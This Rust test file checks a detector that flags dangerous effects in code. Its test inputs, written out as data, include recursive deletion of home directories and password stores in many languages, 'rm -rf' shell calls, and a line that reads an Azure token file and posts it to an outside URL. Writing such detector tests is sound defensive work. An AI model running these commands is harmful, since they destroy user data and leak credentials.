// SPDX-License-Identifier: Apache-2.0 OR MIT

//! Tests of the reader for code of any language.

use tenterhook_paths::FileOp;

use crate::{CodeEffect, read_literals};

/// Returns the effects in a short form: `shell TEXT`, `delete-tree PATH`, `connect URL`.
fn effects(code: &str) -> Vec<String> {
    let shorten = |effect: CodeEffect| match effect {
        CodeEffect::Shell(text) => format!("shell {}", text.shape),
        CodeEffect::Connect(url) => format!("connect {}", url.shape),
        CodeEffect::File { does, path, recursive } => {
            let op = match does {
                FileOp::Delete if recursive => "delete-tree",
                FileOp::Delete => "delete",
                FileOp::Write => "write",
                FileOp::Read => "read",
                _ => "other",
            };
            format!("{op} {}", path.shape)
        }
        other => format!("{other:?}"),
    };
    read_literals(code).into_iter().map(shorten).collect()
}

#[test]
fn deleted_directories_are_found_in_every_language() {
    for (code, expected) in [
        ("std::fs::remove_dir_all(\"/home/user/x\").unwrap()", "delete-tree /home/user/x"),
        ("fs::remove_dir_all(format!(\"{}/.config\", env::var(\"HOME\").unwrap()))", "delete-tree ~/.config"),
        ("removeDir(getHomeDir())", "delete-tree ~"),
        ("rmdirRecurse(environment[\"HOME\"] ~ \"/Documents\");", "delete-tree ~/Documents"),
        ("os.remove.all(os.home / \"Documents\")", "delete-tree ~/Documents"),
        ("var h = Env(\"HOME\");\nDirectory.Delete(h, true);", "delete-tree ~"),
        (
            "try (var s = Files.walk(Path.of(System.getProperty(\"user.home\")))) {\n s.forEach(p -> { Files.delete(p); });\n}",
            "delete-tree ~",
        ),
        ("call delete(expand(\"~/.password-store\"), \"rf\")", "delete-tree ~/.password-store"),
        ("file(REMOVE_RECURSE \"$ENV{HOME}/Documents\")", "delete-tree ~/Documents"),
        ("DeleteDirectory[$HomeDirectory, DeleteContents -> True]", "delete-tree ~"),
    ] {
        assert_eq!(effects(code), [expected], "{code}");
    }
}

#[test]
fn commands_are_found_in_literals() {
    for (code, expected) in [
        ("Runtime.getRuntime().exec(new String[]{\"sh\", \"-c\", \"rm -rf ~/a\"})", "shell rm -rf ~/a"),
        ("Command::new(\"sh\").arg(\"-c\").arg(\"rm -rf ~/a\").status()", "shell rm -rf ~/a"),
        ("(run-program \"/bin/rm\" (list \"-rf\" \"/home/u/a\"))", "shell /bin/rm -rf /home/u/a"),
        ("Process.Start(\"rm\", \"-rf /home/u/a\")", "shell rm -rf /home/u/a"),
        (
            "(system* \"bash\" \"-c\" (string-append \"rm -rf \" (getenv \"HOME\") \"/a\"))",
            "shell rm -rf $HOME/a",
        ),
        ("let c = \"rm -rf /home/u/a\"\nsystem(c)", "shell rm -rf /home/u/a"),
        ("system(sprintf(\"rm -rf %s\", d))", "shell rm -rf *"),
        ("execute_process(COMMAND rm -rf /home/u/a)", "shell rm -rf /home/u/a"),
        ("\"rm -rf /home/u/a\".!", "shell rm -rf /home/u/a"),
    ] {
        assert_eq!(effects(code), [expected], "{code}");
    }
}

#[test]
fn credentials_that_are_read_and_sent_are_found() {
    let code = "var h = E(\"HOME\");\nawait c.PostAsync(\"https://x.io/u\", f(File.ReadAllText(h + \"/.azure/t.json\")));";
    assert_eq!(effects(code), ["read ~/.azure/t.json", "connect https://x.io/u"]);
}

#[test]
fn paths_in_variables_are_followed() {
    let code = "let p = format!(\"{}/.claude/settings.json\", env::var(\"HOME\").unwrap());\nfs::write(p, \"x\").unwrap();";
    assert_eq!(effects(code), ["write ~/.claude/settings.json"]);
    let code = "let f = home_dir().join(\".android/a.keystore\");\nlet text = fs::read(f);";
    assert_eq!(effects(code), ["read ~/.android/a.keystore"]);
}

#[test]
fn ordinary_code_has_no_effects() {
    for code in [
        "println!(\"{}\", std::env::var(\"HOME\").unwrap());",
        "File(\"build/reports\").deleteRecursively()\nprintln(System.getProperty(\"user.home\"))",
        "// rm -rf /home/u: system(\"rm -rf /home/u\")",
        "log.info(\"rm -rf /home/u is not run\")",
        "for f in Files.walk(home)\n  if f.endsWith(\".tmp\") Files.delete(f)",
        "let mut deleted = 0;",
    ] {
        assert_eq!(effects(code), Vec::<String>::new(), "{code}");
    }
}

#[test]
fn hostile_code_is_read_in_linear_time() {
    for unit in ["'\\", "\"", "`a", "((((", "rm -rf \"", "HOME=\n", "é'", "system(\"rm -rf x\");"] {
        let code = unit.repeat(128 * 1024 / unit.len());
        let start = std::time::Instant::now();
        let _ = read_literals(&code);
        assert!(start.elapsed().as_secs() < 5, "{unit}");
    }
}
